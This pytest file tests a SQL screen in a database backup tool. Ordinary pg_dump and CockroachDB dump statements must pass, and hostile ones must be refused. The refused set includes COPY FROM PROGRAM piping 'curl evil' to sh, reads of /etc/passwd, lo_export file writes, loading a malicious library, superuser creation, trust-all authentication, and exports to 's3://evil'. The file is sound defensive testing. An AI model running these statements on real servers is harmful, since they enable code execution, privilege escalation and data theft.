"""The replay screen: what pg_dump and our CockroachDB dump write passes; what reaches outside the
database is refused, wherever in the statement it hides, and nothing inside a string trips it."""

from __future__ import annotations

import pytest

from enclave_backup.screen import ScreenedOut, check, tokens
from enclave_backup.sqlscript import Statement

# Statements as pg_dump 14-18 and our CockroachDB dump write them.
DUMPED = [
    "SET statement_timeout = 0",
    "SET standard_conforming_strings = on",
    "SELECT pg_catalog.set_config('search_path', '', false)",
    "SET default_table_access_method = heap",
    "SET SESSION AUTHORIZATION 'app'",
    "CREATE EXTENSION IF NOT EXISTS postgis WITH SCHEMA public",
    "COMMENT ON EXTENSION postgis IS 'PostGIS geometry and geography spatial types and functions'",
    "CREATE FUNCTION public.widget_in(cstring) RETURNS public.widget LANGUAGE c IMMUTABLE STRICT "
    "AS '$libdir/regress', 'widget_in'",
    # A module outside $libdir, as PostgreSQL's regression database has: the server loads only
    # files with its magic block, and no statement the screen passes can write one.
    "CREATE FUNCTION public.int44in(cstring) RETURNS public.city_budget LANGUAGE c IMMUTABLE STRICT "
    "AS '/tmp/regress-compare-x/lib/regress.so', 'int44in'",
    "CREATE FUNCTION public.f(x integer) RETURNS integer LANGUAGE plpgsql AS $$ BEGIN "
    "EXECUTE 'SELECT pg_read_file(''x'')'; RETURN x; END $$",
    "CREATE FUNCTION public.g() RETURNS integer LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END",
    "CREATE OR REPLACE PROCEDURAL LANGUAGE plsample HANDLER public.plsample_call_handler",
    "CREATE TABLE public.t (id integer NOT NULL, note text DEFAULT 'COPY x TO PROGRAM ''id''')",
    "CREATE MATERIALIZED VIEW public.m AS SELECT count(*) AS n FROM public.t WITH NO DATA",
    "REFRESH MATERIALIZED VIEW public.m",
    "CREATE MATERIALIZED VIEW public.mv (s) AS SELECT sum(x) FROM public.parent",  # CockroachDB's, with data
    "COPY public.t (id, note) FROM stdin",
    'COPY "Odd ""Schema"" name"."Table With Spaces" ("Column ""Quoted""", "MixedCase") FROM stdin',
    "SELECT pg_catalog.setval('public.t_id_seq', 42, true)",
    "SELECT setval('public.t_id_seq', 42, true)",
    "SELECT pg_catalog.lo_create('16400')",
    "SELECT pg_catalog.lo_open('16400', 131072)",
    "SELECT pg_catalog.lowrite(0, '\\x0001')",
    "SELECT pg_catalog.lo_close(0)",
    "SELECT * FROM pg_catalog.pg_restore_relation_stats(\n\t'version', '180000'::integer,\n\t'schemaname', "
    "'public',\n\t'relname', 't',\n\t'relpages', '1'::integer,\n\t'reltuples', '3'::real\n)",
    "GRANT SELECT(id) ON TABLE public.t TO app",
    "REVOKE ALL ON SCHEMA public FROM PUBLIC",
    "ALTER TABLE ONLY public.t ADD CONSTRAINT t_pkey PRIMARY KEY (id)",
    "ALTER TABLE public.t OWNER TO app",
    "CREATE SUBSCRIPTION s CONNECTION 'host=elsewhere dbname=x' PUBLICATION p WITH (connect = false, "
    "slot_name = 's')",
    "INSERT INTO public.t (id, note) VALUES (1, 'SELECT lo_export(1, ''/tmp/x'')'), (2, 'pg_read_file(')",
    "SET experimental_enable_hash_sharded_indexes = on",
    "ALTER TABLE public.t CONFIGURE ZONE USING gc.ttlseconds = 90000",
    "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION public.f()",
    "-- a comment only",
    # PostgreSQL's regression database: a routine's own settings take effect after it is loaded.
    "CREATE FUNCTION public.func_with_set_params() RETURNS integer LANGUAGE sql IMMUTABLE STRICT "
    "SET search_path TO 'pg_catalog' SET local_preload_libraries TO 'Mixed/Case', 'c:/''a\"/path' AS $$select 1;$$",
    # Monitoring views list directories; a materialized view may read another server.
    "CREATE VIEW public.wal AS SELECT name, size FROM pg_catalog.pg_ls_waldir()",
    "CREATE MATERIALIZED VIEW public.remote AS SELECT * FROM public.dblink('dbname=x', 'SELECT 1') AS t(x int) "
    "WITH NO DATA",
]

# Each reaches the server's files, programs, libraries, configuration or other databases.
REFUSED = {
    "COPY (SELECT 1) TO PROGRAM 'touch /tmp/x'": "FROM stdin",
    "COPY public.t FROM PROGRAM 'curl evil | sh'": "FROM stdin",
    "COPY public.t FROM '/etc/passwd'": "FROM stdin",
    "COPY public.t TO STDOUT": "FROM stdin",
    "COPY public.t FROM stdin WITH (FORMAT text) /* FROM STDIN */ program": "FROM stdin",
    "DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END $$": "DO is not a statement",
    "LOAD '/tmp/evil.so'": "LOAD is not a statement",
    "CALL public.p()": "CALL is not",
    "ALTER SYSTEM SET archive_command = 'id'": "whole server",
    "SELECT pg_read_file('/etc/passwd')": "a dump's SELECT",
    "SELECT pg_catalog.setval('s', 1, true), pg_catalog.lo_export(1, '/tmp/x')": "a dump's SELECT",
    "SELECT pg_catalog.setval((SELECT 's'), 1, true)": "a dump's SELECT",
    "SELECT pg_catalog.set_config('dynamic_library_path', '/tmp', false)": "a dump's SELECT",
    "CREATE TABLE public.loot AS SELECT pg_catalog.pg_read_file('/etc/passwd')": "CREATE TABLE ... AS",
    "CREATE TABLE public.loot AS SELECT 1": "CREATE TABLE ... AS",
    "CREATE VIEW public.v AS SELECT lo_export(16400, '/tmp/x')": "lo_export()",
    "CREATE TABLE public.t2 (x text DEFAULT \"pg_read_file\"('/etc/passwd'))": "pg_read_file()",
    "INSERT INTO public.t VALUES (1, lo_export(16400, '/tmp/x'))": "lo_export()",
    "INSERT INTO public.t VALUES (1, pg_catalog.pg_terminate_backend(42))": "pg_terminate_backend()",
    "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'": "whole server",
    "ALTER ROLE app SUPERUSER": "whole server",
    "ALTER USER app SET session_preload_libraries = '/tmp/x'": "whole server",
    "SET session_preload_libraries = '/tmp/evil'": "loads libraries",
    "DROP DATABASE malbork": "whole server",
    "CREATE DATABASE other": "whole server",
    "CREATE TABLESPACE t LOCATION '/tmp'": "whole server",
    "GRANT pg_execute_server_program TO app": "never membership",
    "GRANT postgres TO app WITH ADMIN OPTION": "never membership",
    "SET standard_conforming_strings = off": "standard_conforming_strings only to on",
    "SELECT pg_catalog.set_config('standard_conforming_strings', 'off', false)": "standard_conforming_strings",
    "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p": "connect = false",
    "SET CLUSTER SETTING server.host_based_authentication.configuration = 'host all all all trust'":
        "whole server",
    "CREATE CHANGEFEED FOR TABLE t INTO 'kafka://evil:9092'": "sends data out",
    "CREATE EXTERNAL CONNECTION out AS 's3://evil'": "sends data out",
    "BACKUP DATABASE malbork INTO 's3://evil'": "BACKUP is not",
    "EXPORT INTO CSV 's3://evil' FROM TABLE t": "EXPORT is not",
    "IMPORT INTO t CSV DATA ('http://evil/x')": "IMPORT is not",
    "ALTER RANGE default CONFIGURE ZONE USING num_replicas = 1": "whole server",
    "VACUUM FULL": "VACUUM is not",
    "WITH x AS (SELECT lo_export(1, '/tmp/x')) SELECT 1": "WITH is not",
}


@pytest.mark.parametrize("sql", DUMPED)
def test_what_dumps_write_passes(sql):
    check(Statement(sql, 1))


@pytest.mark.parametrize("sql,why", REFUSED.items(), ids=range(len(REFUSED)))
def test_what_reaches_outside_the_database_is_refused(sql, why):
    with pytest.raises(ScreenedOut) as refused:
        check(Statement(sql, 7))
    message = str(refused.value)
    assert message.startswith("line 7: refused to run") and why in message, message
    assert "Nothing of it ran on the live database" in message
    assert ScreenedOut.exit_code == 5


def test_strings_comments_and_quoted_names_are_single_tokens():
    toks = tokens("SELECT /* a /* nested */ lo_export( */ 'it''s', E'a\\'b', $f$ pg_read_file( $f$, \"Q\"\"x\" -- x(\n")
    assert [(t.kind, t.text) for t in toks] == [
        ("word", "select"), ("string", "it's"), ("punct", ","), ("string", "a\\'b"),
        ("punct", ","), ("string", " pg_read_file( "), ("punct", ","), ("ident", 'Q"x')]
